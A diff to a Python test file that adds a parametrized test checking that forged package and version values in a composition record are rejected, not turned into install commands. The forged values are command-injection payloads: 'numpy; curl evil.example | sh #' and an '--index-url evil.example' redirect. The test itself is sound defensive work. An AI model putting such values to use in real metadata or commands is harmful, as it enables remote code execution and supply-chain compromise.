@@ -174,6 +174,18 @@ def test_a_folder_names_the_missing_package_of_its_part(compose: Compose, built:
     assert expected in " ".join(result.output.split())
 
 
+@pytest.mark.parametrize("forged", [{"package": "numpy; curl evil.example | sh #"}, {"version": "1 --index-url evil.example"}])
+def test_no_command_has_a_strangers_text(compose: Compose, built: Path, forged: dict[str, str]) -> None:
+    record = json.loads((built / "composition.json").read_text(encoding="utf-8"))
+    record["parts"]["mine.slow"] = {"module": "mine", "package": "my-gates", "version": "1.2", **forged}
+    (built / "composition.json").write_text(json.dumps(record), encoding="utf-8")
+    result = compose("generate", "built", "--prompt", "once")
+    assert result.exit_code == 2
+    assert "which is not registered" in " ".join(result.output.split())
+    assert "pip install my" not in result.output
+    assert "evil" not in result.output
+
+
 def test_a_changed_file_is_noted(compose: Compose, built: Path, mine: Path) -> None:
     mine.write_text(f"{GATE}\n# another line\n", encoding="utf-8")
     result = compose("generate", "built", "--prompt", "once", "--max-new-tokens", "1", "--parts", mine)
